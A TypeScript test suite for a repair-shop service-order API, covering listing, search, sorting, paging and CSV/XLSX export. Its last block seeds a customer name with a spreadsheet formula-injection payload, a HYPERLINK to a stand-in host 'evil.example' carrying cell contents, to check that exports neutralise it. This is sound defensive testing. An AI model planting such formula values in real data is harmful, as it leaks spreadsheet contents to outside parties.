import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { todayInTimeZone } from '../../../shared/formatos/data'
import { call, create } from '../../test/api'
import { createTestApp, type TestApp } from '../../test/build-app'
import { buildCompany, type TestUser } from '../../test/factories'
import { buildCatalogo, type Catalogo, osBody } from '../../test/os-fixtures'

let t: TestApp
beforeAll(async () => {
  t = await createTestApp()
})
afterAll(() => t.close())

const DAY = 86_400_000
const dia = (offset: number) =>
  new Date(Date.parse(todayInTimeZone()) + offset * DAY).toISOString().slice(0, 10)
const list = async (user: TestUser, query = '') => {
  const res = await call(t, user, 'GET', `/api/os${query}`)
  expect(res.statusCode, res.body).toBe(200)
  return res.json()
}
const numeros = (page: { items: Array<{ numero_os: string }> }) => page.items.map((o) => o.numero_os)

/** Three OS: a late one for Maria's Uno, an on-time one, and a concluded one for another client. */
async function seed(admin: TestUser) {
  const c: Catalogo = await buildCatalogo(t, admin)
  const joao = await create(t, admin, '/api/clientes', {
    tipo_pessoa: 'fisica',
    doc: '29537995593',
    nome_razao: 'João Pereira',
  })
  const tecnico = await create(t, admin, '/api/tecnicos', { nome: 'Carlos' })
  const atrasada = await create(
    t,
    admin,
    '/api/os',
    osBody(c, { previsao_entrega: dia(-2), prioridade: 'alta' }),
  )
  const emDia = await create(
    t,
    admin,
    '/api/os',
    osBody(c, { previsao_entrega: dia(3), tecnico_responsavel_id: tecnico.id }),
  )
  const concluida = await create(t, admin, '/api/os', {
    cliente_id: joao.id,
    previsao_entrega: dia(-10),
    itens: [{ tipo: 'servico', referencia_id: c.funilaria.id, quantidade: 1, valor_unitario: 10000 }],
  })
  for (const s of ['orcamento_enviado', 'aprovado', 'em_execucao', 'concluido']) {
    await call(t, admin, 'POST', `/api/os/${concluida.id}/status`, { status: s })
  }
  return { c, joao, tecnico, atrasada, emDia, concluida }
}

describe('GET /api/os', () => {
  it('shows the summary cards, the newest first and the company today', async () => {
    const { admin } = await buildCompany(t)
    const s = await seed(admin)
    const page = await list(admin)
    expect(page.resumo).toEqual({ total: 3, abertas: 2, atrasadas: 1, valor_aberto: 2 * 52980 })
    expect(page).toMatchObject({ total: 3, totalExact: true, page: 1, pageSize: 10, hoje: todayInTimeZone() })
    expect(numeros(page)).toEqual([s.concluida.numero_os, s.emDia.numero_os, s.atrasada.numero_os])
    expect(page.items[1]).toMatchObject({
      cliente_nome: 'Maria Aparecida da Silva',
      veiculo: { marca: 'Fiat', modelo: 'Uno', placa: 'ABC1D23' },
      tecnico_nome: 'Carlos',
      previsao_entrega: dia(3),
      total_geral: 52980,
    })
    const other = await buildCompany(t)
    expect((await list(other.admin)).resumo).toEqual({ total: 0, abertas: 0, atrasadas: 0, valor_aberto: 0 })
  })

  it('searches by number, client and plate in either form, and filters', async () => {
    const { admin } = await buildCompany(t)
    const s = await seed(admin)
    expect(numeros(await list(admin, `?q=${s.atrasada.numero_os.slice(-4)}`))).toEqual([s.atrasada.numero_os])
    expect(numeros(await list(admin, `?q=${s.atrasada.numero_os.toLowerCase()}`))).toEqual([
      s.atrasada.numero_os,
    ])
    expect(numeros(await list(admin, '?q=joão'))).toEqual([s.concluida.numero_os])
    expect(await list(admin, '?q=ABC-1323').then((p) => p.total)).toBe(2)
    expect(numeros(await list(admin, '?status=concluido'))).toEqual([s.concluida.numero_os])
    expect(numeros(await list(admin, '?prioridade=alta'))).toEqual([s.atrasada.numero_os])
    expect(numeros(await list(admin, `?tecnico_id=${s.tecnico.id}`))).toEqual([s.emDia.numero_os])
    expect(numeros(await list(admin, `?cliente_id=${s.joao.id}`))).toEqual([s.concluida.numero_os])
    expect((await list(admin, `?de=${dia(1)}`)).total).toBe(0)
    expect((await list(admin, `?de=${dia(0)}&ate=${dia(0)}`)).total).toBe(3)
  })

  it('sorts on the server by forecast and value, and pages', async () => {
    const { admin } = await buildCompany(t)
    const s = await seed(admin)
    expect(numeros(await list(admin, '?sort=previsao_entrega&dir=asc'))).toEqual([
      s.concluida.numero_os,
      s.atrasada.numero_os,
      s.emDia.numero_os,
    ])
    expect(numeros(await list(admin, '?sort=total_geral&dir=asc'))[0]).toBe(s.concluida.numero_os)
    const page2 = await list(admin, '?pageSize=2&page=2&sort=numero_os&dir=asc')
    expect(numeros(page2)).toEqual([s.concluida.numero_os])
    expect(page2.total).toBe(3)
  })

  it('answers 400 in Portuguese for a bad filter', async () => {
    const { admin } = await buildCompany(t)
    const res = await call(t, admin, 'GET', '/api/os?status=pausado')
    expect(res.statusCode).toBe(400)
    expect(res.json().error.fields.status).toBe('Status inválido')
  })
})

describe('GET /api/os/exportar', () => {
  it('exports the filtered list as CSV and XLSX', async () => {
    const { admin } = await buildCompany(t)
    const s = await seed(admin)
    const csv = await call(t, admin, 'GET', '/api/os/exportar?formato=csv&status=concluido')
    expect(csv.statusCode).toBe(200)
    expect(csv.headers['content-type']).toContain('text/csv')
    expect(csv.headers['content-disposition']).toMatch(/attachment; filename="ordens-de-servico-.*\.csv"/)
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split(/\r?\n/)
    expect(lines[0]).toBe('Número;Status;Prioridade;Cliente;Veículo;Técnico;Abertura;Previsão;Valor')
    expect(lines).toHaveLength(2)
    expect(lines[1]).toContain(`${s.concluida.numero_os};Concluído;Média;João Pereira;`)
    expect(lines[1]).toMatch(/R\$\s100,00$/)

    // Plates read as everywhere else: the old format with its hyphen, Mercosul as is.
    const gol = await create(t, admin, '/api/veiculos', {
      cliente_id: s.joao.id,
      placa: 'abc1234',
      marca: 'VW',
      modelo: 'Gol',
    })
    const golOs = await create(t, admin, '/api/os', { cliente_id: s.joao.id, veiculo_id: gol.id })
    const xlsx = await call(t, admin, 'GET', '/api/os/exportar?formato=xlsx')
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer)
    const sheet = workbook.getWorksheet('Ordens de Serviço')!
    expect(sheet.rowCount).toBe(5)
    expect(sheet.getRow(1).getCell(1).value).toBe('Número')
    expect(sheet.getRow(2).getCell(1).value).toBe(golOs.numero_os)
    expect(sheet.getRow(2).getCell(5).value).toBe('VW Gol - ABC-1234')
    expect(sheet.getRow(3).getCell(1).value).toBe(s.concluida.numero_os)
    expect(sheet.getRow(3).getCell(9).value).toBe(100)
    expect(sheet.getRow(4).getCell(5).value).toBe('Fiat Uno - ABC1D23')
  })
})

describe('GET /api/os/exportar with a hostile customer name', () => {
  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Clique aqui")'

  it('neutralises the formula in CSV and writes it as plain text in XLSX', async () => {
    const { admin } = await buildCompany(t)
    const cliente = await create(t, admin, '/api/clientes', {
      tipo_pessoa: 'fisica',
      doc: '52998224725',
      nome_razao: HYPERLINK,
    })
    const veiculo = await create(t, admin, '/api/veiculos', {
      cliente_id: cliente.id,
      placa: 'XYZ9A87',
      marca: 'Fiat',
      modelo: '@SUM(1+1)',
    })
    const criada = await create(t, admin, '/api/os', { cliente_id: cliente.id, veiculo_id: veiculo.id })

    const csv = await call(t, admin, 'GET', '/api/os/exportar?formato=csv')
    expect(csv.statusCode, csv.body).toBe(200)
    const linha = csv.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split(/\r?\n/)[1]
    // The quote doubles inside a quoted CSV field; the cell opens as the text "'=HYPERLINK(...)".
    expect(linha).toContain(`;"'=HYPERLINK(""http://evil.example/?d=""&A1;""Clique aqui"")";`)
    expect(linha).toContain(';Fiat @SUM(1+1) - XYZ9A87;')
    expect(linha).toMatch(/;R\$\s0,00$/)

    const xlsx = await call(t, admin, 'GET', '/api/os/exportar?formato=xlsx')
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer)
    const row = workbook.getWorksheet('Ordens de Serviço')!.getRow(2)
    expect(row.getCell(1).value).toBe(criada.numero_os)
    const celula = row.getCell(4)
    expect(celula.type).toBe(ExcelJS.ValueType.String)
    expect(celula.formula).toBeUndefined()
    expect(celula.value).toBe(HYPERLINK)
  })
})
